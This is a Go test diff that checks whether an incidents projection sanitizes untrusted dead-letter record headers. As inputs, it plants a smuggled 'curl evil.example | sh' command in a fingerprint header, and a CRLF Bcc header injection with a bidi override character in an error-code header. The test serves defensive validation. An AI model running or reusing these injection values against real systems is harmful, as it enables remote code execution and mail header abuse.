@@ -240,3 +240,28 @@ func rebuild(t *testing.T, brokers []string) {
 		require.Equal(t, "bo", i.Owner)
 	}
 }
+
+// TestProjection_StrangersChooseNoCommand: a fingerprint ends up in command lines that people copy, texts in messages to them.
+func TestProjection_StrangersChooseNoCommand(t *testing.T) {
+	t.Parallel()
+	db := control(t)
+	rec := failed{
+		topic: "source.shop.invoice.normalize.dlq", key: "acme/shop/1", tenant: "acme", code: "mapping", message: "m", at: time.Now(),
+		disposition: topics.DispositionPermanent,
+	}.record()
+	for i := range rec.Headers {
+		switch rec.Headers[i].Key {
+		case topics.HeaderFingerprint:
+			rec.Headers[i].Value = []byte("v1:0; curl evil.example | sh")
+		case topics.HeaderErrorCode:
+			rec.Headers[i].Value = []byte("mapping\r\nBcc: all@example.com\u202e")
+		}
+	}
+	require.NoError(t, pgx.BeginFunc(t.Context(), db, func(tx pgx.Tx) error {
+		return incidents.Projection{}.Apply(t.Context(), tx, []*kgo.Record{rec})
+	}))
+	var fingerprint, code string
+	require.NoError(t, db.QueryRow(t.Context(), `select fingerprint, code from leat_control.incidents`).Scan(&fingerprint, &code))
+	require.True(t, topics.ValidFingerprint(fingerprint), fingerprint)
+	require.Equal(t, "mapping\uFFFD\uFFFDBcc: all@example.com\uFFFD", code)
+}
